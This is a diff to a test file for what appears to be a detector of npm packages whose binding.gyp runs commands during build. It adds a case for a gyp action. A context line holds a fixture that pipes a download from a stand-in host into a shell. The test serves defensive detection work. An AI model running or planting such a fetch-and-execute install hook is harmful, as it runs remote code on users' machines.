@@ -16,6 +16,10 @@ examine(gypRunsCommand, {
       files: { 'package.json': manifest, 'binding.gyp': gyp('node ./scripts/setup.js'), 'scripts/setup.js': '' },
       weight: 'strong',
     },
+    {
+      when: 'it is an action, run while nothing native is built',
+      files: { 'package.json': manifest, 'binding.gyp': `{'targets':[{'target_name':'x','actions':[{'action':['node','run.js']}]}]}` },
+    },
     { when: 'a shell is run', files: { 'package.json': manifest, 'binding.gyp': gyp('curl https://a.invalid | sh') }, weight: 'proof' },
     {
       when: 'a shell is run beside real sources',
